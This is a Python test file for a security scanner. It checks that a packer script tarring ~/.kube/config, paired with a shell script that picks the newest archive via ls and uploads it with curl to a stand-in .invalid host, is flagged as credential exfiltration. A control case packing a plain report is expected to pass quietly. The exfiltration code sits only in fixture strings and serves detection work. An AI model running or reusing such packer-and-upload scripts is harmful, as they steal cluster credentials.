"""An archive one script packs with secrets, picked by another by listing its folder (``ls -t
out/*.tgz | head -n1``) and uploaded: ``ls`` prints the written file's name and a line picker keeps
it a name, so the upload reads that file. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

PACKER = (
    "import pathlib, tarfile, time\n"
    "home = pathlib.Path.home()\n"
    "dest = pathlib.Path('exports') / f'{time.strftime(\"%Y%m%d\")}.tgz'\n"
    "with tarfile.open(dest, 'w:gz') as pack:\n"
    "    pack.add(home / '.kube' / 'config')\n"
)
SHIPPER = (
    "#!/bin/sh\n"
    'newest="$(ls -1rt exports/*.tgz | tail -n 1)"\n'
    'curl -sf -T "$newest" https://drop.quillmarsh.invalid/in/\n'
)


def test_the_newest_packed_archive_picked_by_listing_is_sent(tmp_path: Path) -> None:
    errors = scan_errors(tmp_path, {"scripts/pack.py": PACKER, "scripts/ship.sh": SHIPPER})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.sh", 3) in errors


def test_a_listed_archive_under_a_folder_variable_is_sent(tmp_path: Path) -> None:
    shipper = (
        "#!/bin/bash\n"
        'base="$(cd "$(dirname "$0")/.." && pwd)"\n'
        'pick=$(ls -t "$base"/exports/*.tgz | head -1)\n'
        'curl -s --data-binary @"$pick" https://drop.quillmarsh.invalid/in\n'
    )
    packer = PACKER.replace("pathlib.Path('exports')", "pathlib.Path(__file__).parent.parent / 'exports'")
    errors = scan_errors(tmp_path, {"scripts/pack.py": packer, "scripts/ship.sh": shipper})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/ship.sh", 4) in errors


def test_the_newest_archive_of_plain_files_picked_and_sent_is_quiet(tmp_path: Path) -> None:
    packer = PACKER.replace("home / '.kube' / 'config'", "'build/report.html'")
    assert not scan_errors(tmp_path, {"scripts/pack.py": packer, "scripts/ship.sh": SHIPPER})
